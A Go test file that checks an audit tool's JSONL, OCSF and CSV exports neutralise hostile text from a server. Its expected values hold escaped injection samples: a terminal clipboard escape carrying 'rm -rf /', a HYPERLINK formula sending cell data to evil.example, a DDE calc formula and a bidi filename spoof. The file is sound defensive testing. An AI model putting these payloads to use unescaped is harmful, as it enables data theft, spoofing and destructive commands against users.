package audit

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/shadowview/shadow/api"
	"github.com/shadowview/shadow/internal/hostile"
	"github.com/shadowview/shadow/internal/safetext"
)

// hostileJournal is a state dir whose journal holds, for every string of the hostile
// corpus, one session whose reason, user name, e-mail and company and one view's
// details are that string, as a hostile server could have made them.
func hostileJournal(t *testing.T) (dir string, names []string) {
	t.Helper()
	dir = t.TempDir()
	j := openTest(t, dir)
	defer closeTest(t, j)
	for name := range hostile.Strings {
		names = append(names, name)
	}
	sort.Strings(names)
	for i, name := range names {
		s := hostile.Strings[name]
		user := api.UserRef{ID: fmt.Sprintf("u-%d", i), Name: s, Email: s + "@example.test", Company: s}
		session := fmt.Sprintf("sess-%02d", i)
		for _, b := range []api.RecordBody{
			{SessionID: session, Action: api.ActionSessionStart, Actor: testAdmin, User: &user, Reason: s},
			{SessionID: session, Action: api.ActionView, Actor: testAdmin, User: &user, Details: s},
		} {
			if _, err := j.Append(context.Background(), b); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
	}
	return dir, names
}

// checkInertBytes fails unless out holds, as raw bytes, nothing a terminal acts on or a
// reader cannot see: valid UTF-8, no C0 control but the line feed ending each line, no
// DEL, no C1 control (as a code point or a raw byte), no bidi, zero-width or other
// format character.
func checkInertBytes(t *testing.T, format string, out []byte) {
	t.Helper()
	if !utf8.Valid(out) {
		t.Errorf("%s export is not valid UTF-8", format)
	}
	for i := 0; i < len(out); {
		r, size := utf8.DecodeRune(out[i:])
		if r != '\n' && (safetext.Invisible(r) || r == utf8.RuneError && size == 1) {
			lo, hi := max(0, i-30), min(len(out), i+30)
			t.Errorf("%s export byte %d: raw %U in %q", format, i, r, out[lo:hi])
			return
		}
		i += size
	}
}

// fromVisible undoes safetext.Visible's <U+XXXX>, to show the CSV lost nothing.
var visibleMark = regexp.MustCompile(`<U\+([0-9A-F]{4,6})>`)

func fromVisible(s string) string {
	return visibleMark.ReplaceAllStringFunc(s, func(m string) string {
		n, _ := strconv.ParseInt(m[3:len(m)-1], 16, 32)
		return string(rune(n))
	})
}

// Every export of text a hostile server sent is inert byte for byte; JSONL and OCSF
// parse back to the exact values recorded, and CSV shows every invisible character as
// <U+XXXX>, keeps every other one, and starts no cell with a formula.
func TestExportsOfHostileTextAreInert(t *testing.T) {
	t.Parallel()
	dir, names := hostileJournal(t)
	a, err := LoadArchive(dir)
	if err != nil {
		t.Fatal(err)
	}
	var recorded []api.RecordBody // in seq order
	for _, e := range a.Journals[0].Entries {
		recorded = append(recorded, e.Data)
	}

	for _, format := range []string{FormatJSONL, FormatOCSF, FormatCSV} {
		out, err := runCLI(t, "export", "--format", format, "--state-dir", dir)
		if unsyncedOK(err) != nil {
			t.Fatalf("export %s: %v", format, err)
		}
		checkInertBytes(t, format, []byte(out))
	}

	// JSONL: the parsed record is exactly what was recorded.
	out, _ := runCLI(t, "export", "--state-dir", dir)
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	n := 0
	for sc.Scan() {
		var line exportRecord
		if err := json.Unmarshal(sc.Bytes(), &line); err != nil {
			t.Fatal(err)
		}
		if line.Type != "record" {
			continue
		}
		want := recorded[line.Seq-1]
		if got := line.Record; got.Details != want.Details || got.Reason != want.Reason || *got.User != *want.User {
			t.Errorf("JSONL seq %d parses to %+v, recorded %+v", line.Seq, got, want)
		}
		n++
	}
	if n != len(recorded) {
		t.Fatalf("JSONL export holds %d records, want %d", n, len(recorded))
	}
	for i, name := range names { // what was recorded is what the server sent (bounded, valid UTF-8)
		if s := hostile.Strings[name]; utf8.ValidString(s) && recorded[2*i+1].Details != s {
			t.Errorf("%s: recorded %q, sent %q", name, recorded[2*i+1].Details, s)
		}
	}
	// The export still verifies: escaping changed no value.
	path := t.TempDir() + "/hostile.jsonl"
	if _, err := runCLI(t, "export", "--out", path, "--state-dir", dir); unsyncedOK(err) != nil {
		t.Fatal(err)
	}
	if vout, err := runCLI(t, "verify", path); err != nil && !strings.Contains(vout, "PARTLY") {
		t.Fatalf("the escaped export does not verify: %v\n%s", err, vout)
	} else if strings.Contains(vout, "FAIL") || strings.Contains(vout, "differs from the hashed body") {
		t.Fatalf("the escaped export does not verify:\n%s", vout)
	}

	// OCSF: the message is the details, exactly.
	out, _ = runCLI(t, "export", "--format", "ocsf", "--state-dir", dir)
	sc = bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var ev struct {
			Message  string `json:"message"`
			Unmapped struct {
				Seq    uint64 `json:"seq"`
				Reason string `json:"reason"`
			} `json:"unmapped"`
		}
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatal(err)
		}
		want, start := recorded[ev.Unmapped.Seq-1], recorded[(ev.Unmapped.Seq-1)&^1]
		if ev.Message != want.Details || ev.Unmapped.Reason != start.Reason {
			t.Errorf("OCSF seq %d: message %q reason %q, recorded %q %q", ev.Unmapped.Seq, ev.Message, ev.Unmapped.Reason, want.Details, start.Reason)
		}
	}

	// CSV: visible, nothing lost, no formula.
	out, _ = runCLI(t, "export", "--format", "csv", "--state-dir", dir)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(recorded)+1 {
		t.Fatalf("CSV has %d rows, want %d", len(rows), len(recorded)+1)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r\uff1d\uff0b\uff0d\uff20", []rune(cell)[0]) {
				t.Errorf("CSV column %s starts a formula: %q", rows[0][i], cell)
			}
		}
		seq, _ := strconv.Atoi(row[col["Seq"]])
		want := recorded[seq-1]
		start := recorded[(seq-1)&^1] // the session's start: its reason is on every row
		for column, value := range map[string]string{"Details": want.Details, "Reason": start.Reason,
			"Company": want.User.Company, "User email": want.User.Email} {
			cell := strings.TrimPrefix(row[col[column]], "'")
			if fromVisible(cell) != value {
				t.Errorf("CSV seq %d %s: %q does not show %q", seq, column, cell, value)
			}
		}
	}
	detailsOf := func(name string) string {
		for i, n := range names {
			if n == name {
				return rows[2*i+2][col["Details"]]
			}
		}
		t.Fatalf("no %s in the corpus", name)
		return ""
	}
	for name, want := range map[string]string{
		"osc 52 clipboard":  "Dave<U+001B>]52;c;cm0gLXJmIC8K<U+0007>",
		"scroll region":     "Pat<U+001B>[2;5rScroll<U+001B>[r",
		"c1 controls":       "Judy<U+0085><U+0084><U+008E><U+0090>x<U+009C>ok",
		"bidi override":     "Peggy <U+202E>evil.exe<U+202C> txt",
		"zero width":        "Sy<U+200B>bil<U+200C><U+200D><U+2060><U+FEFF>",
		"nul and del":       "Nu<U+0000>l De<U+007F>l",
		"formula tab":       "<U+0009>=1+1",
		"formula equals":    `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"formula minus":     "'-2+3+cmd|' /C calc'!A0",
		"formula fullwidth": "'\uff1d1+1",
		"wide cjk":          "陳大文 (Chan Tai Man)",
	} {
		if got := detailsOf(name); got != want {
			t.Errorf("CSV details of %s: %q, want %q", name, got, want)
		}
	}
}

// The CSV has the columns an auditor asked for, filled on every row: seq, event id,
// company, the admin's and the user's id and e-mail apart, and the session's reason on
// every row of the session, not only its start.
func TestCSVHasTheAuditorsColumns(t *testing.T) {
	t.Parallel()
	dir, j := reviewFixture(t)
	closeTest(t, j)
	out, err := runCLI(t, "export", "--format", "csv", "--session", "sess-alpha", "--state-dir", dir)
	if unsyncedOK(err) != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, c := range []string{"Seq", "Event ID", "Company", "Admin ID", "Admin email", "User ID", "User email", "Reason"} {
		if _, ok := col[c]; !ok {
			t.Fatalf("CSV has no %q column: %v", c, rows[0])
		}
	}
	a, _ := LoadArchive(dir)
	for i, row := range rows[1:] {
		e := a.Journals[0].Entries[i]
		for c, want := range map[string]string{"Seq": strconv.FormatUint(e.Seq, 10), "Event ID": e.Data.EventID,
			"Admin ID": testAdmin.ID, "Admin email": testAdmin.Email, "User ID": testUser.ID, "User email": testUser.Email,
			"Reason": "TICKET-42 customer cannot see fleet"} {
			if row[col[c]] != want || want == "" {
				t.Errorf("row %d %s: %q, want %q", i+1, c, row[col[c]], want)
			}
		}
	}
	if !bytes.HasPrefix([]byte(out), []byte("Timestamp,Action,User performing action,Impersonated user,Details,")) {
		t.Errorf("the first five columns moved: %q", out[:80])
	}
}
